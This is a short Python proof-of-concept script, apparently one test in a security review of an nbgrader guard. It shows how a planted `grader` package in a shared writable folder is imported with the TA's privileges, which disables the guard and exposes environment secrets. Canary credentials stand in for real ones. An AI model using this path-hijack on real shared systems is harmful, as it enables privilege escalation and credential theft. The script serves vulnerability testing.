"""a14: a11 through Python's own path: the venv-wide guard does `from grader import formgrader_guard`, and `python -m
nbgrader ...` (or `jupyter nbgrader`) puts the folder it runs in first on sys.path. Run from a shared writable folder
(sticky 1777 stand-in for /tmp) holding a student's `grader/` package (uid 65534), the TA's nbgrader imports it as root,
and the guards it would install are the student's to choose."""
import os, subprocess, sys
d = "/tmp/attack44-root-a14"; mine = "/tmp/attack44-root-a14-ta"
subprocess.run(["rm", "-rf", d, mine]); os.makedirs(d); os.chmod(d, 0o1777); os.makedirs(mine, mode=0o700)
STUDENT = f"""
import os
os.setgid(65534); os.setuid(65534)
os.makedirs({d + '/grader'!r})
open({d + '/grader/__init__.py'!r}, 'w').write('')
open({d + '/grader/formgrader_guard.py'!r}, 'w').write('''
import os, json
open({d + '/PWNED.json'!r}, 'w').write(json.dumps({{'uid': os.getuid(), 'canary': 'AKIASECRET' in str(os.environ)}}))
CHECKOUT = "/nonexistent"
def install(*a, **k):
    pass  # no guard at all
''')
"""
subprocess.run([sys.executable, "-c", STUDENT], check=True)
env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
for cmd in (["CLONE/.venv/bin/nbgrader", "--version"], ["CLONE/.venv/bin/python", "-m", "nbgrader", "list"]):
    if os.path.exists(f"{d}/PWNED.json"):
        os.remove(f"{d}/PWNED.json")
    r = subprocess.run(cmd, cwd=d, env=env, capture_output=True, text=True, timeout=120)
    print(" ".join(cmd[-3:]), "rc", r.returncode, "| PWNED:", open(f"{d}/PWNED.json").read() if os.path.exists(f"{d}/PWNED.json") else "nothing ran")
